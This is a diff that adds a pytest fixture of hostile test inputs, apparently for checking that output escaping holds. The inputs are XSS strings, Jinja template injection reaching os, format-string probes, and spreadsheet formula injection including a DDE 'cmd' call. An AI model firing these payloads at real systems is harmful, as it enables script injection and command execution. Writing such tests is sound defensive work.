@@ -104,3 +104,39 @@ def outside():
         ]
 
     return found
+
+
+@pytest.fixture(scope="session")
+def payloads() -> dict[str, str]:
+    """What hostile texts are made of, by what they try; `__x` and `alert` would tell that something ran."""
+    return {
+        "script": "<script>window.__x=1;alert(1)</script>",
+        "onerror": '"><img src=x onerror="window.__x=1;alert(1)">',
+        "onload": "<svg onload=window.__x=1>",
+        "frame": "<iframe srcdoc=\"<script>parent.__x=1</script>\"></iframe><base href='https://example.org/'>",
+        "end tags": "</script></title></style></textarea></noscript><script>window.__x=1</script>",
+        "comment": "<!--<script>]]>--><![CDATA[ <b> ?>",
+        "entities": "&lt;b&gt;&#123;&quot;\\u003c\\x3c%3Cscript%3E&amp",
+        "quotes": "'\"><a href=javascript:window.__x=1 onclick=window.__x=1 x='",
+        "address": "javascript:window.__x=1",
+        "template": "${window.__x=1}",
+        "backtick": "`;window.__x=1;`${alert(1)}\\`",
+        "jinja": "{{ 7*7 }}{{7*7}}",
+        "jinja pid": "{{ cycler.__init__.__globals__.os.getpid() }}",
+        "jinja block": "{% for x in (1,2) %}x{% endfor %}{% raw",
+        "jinja comment": "{# gone #}{# y",
+        "format": "{0}{name.__class__}{n}%s%(x)s$&$1$`",
+        "separators": "line\u2028paragraph\u2029next\x85nbsp\xa0\ufeffend",
+        "controls": "bell\x07tab\x0besc\x1b[31munit\x1f\x7fend",
+        "nul": "nul\x00end",
+        "bidi": "abc\u202efdp.exe\u2066\u2067\u200f",
+        "formula": '=HYPERLINK("https://example.org/?x="&A1,"y")',
+        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "plus": "+1+1",
+        "minus": "-1+1",
+        "tab": "\t=1+1",
+        "return": "\r=1+1",
+        "field": 'x;=1+1;"\n=2+2',
+        "long": "lang " * 400 + "W" * 4000,
+        "prototype": "__proto__",
+    }
